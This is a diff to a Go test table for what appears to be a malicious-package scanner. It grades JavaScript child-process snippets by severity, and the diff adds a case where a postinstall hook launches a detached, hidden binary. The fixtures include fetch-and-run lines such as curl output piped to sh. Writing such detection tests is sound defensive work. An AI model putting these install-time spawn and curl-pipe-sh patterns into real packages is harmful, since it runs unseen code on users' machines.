@@ -15,6 +15,8 @@ func TestSpawn(t *testing.T) {
 		{"template_curl_sh", map[string]string{"index.js": "const {exec}=require(\"child_process\"); exec(`curl -s ${host}/i.sh | sh`)"}, finding.SeverityCritical},
 		{"template_git", map[string]string{"index.js": "const {exec}=require(\"child_process\"); exec(`git tag ${v} && git push origin ${v}`)"}, finding.SeverityLow},
 		{"detached_hidden", map[string]string{"index.js": `const {spawn}=require("child_process"); spawn(p, {detached: true, stdio: "ignore"}).unref()`}, finding.SeverityMedium},
+		{"detached_hidden_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node start.js"}}`,
+			"start.js": `require("child_process").spawn(require("path").join(__dirname, "vendor", "svc"), [], {detached: true, stdio: "ignore"}).unref()`}, finding.SeverityHigh},
 		{"git_cli", map[string]string{"index.js": `require("child_process").execFileSync("git", ["rev-parse", "HEAD"])`}, finding.SeverityLow},
 		{"no_spawn", map[string]string{"index.js": `const s = "curl https://x | sh"; console.log(s)`}, finding.SeverityNone},
 	})
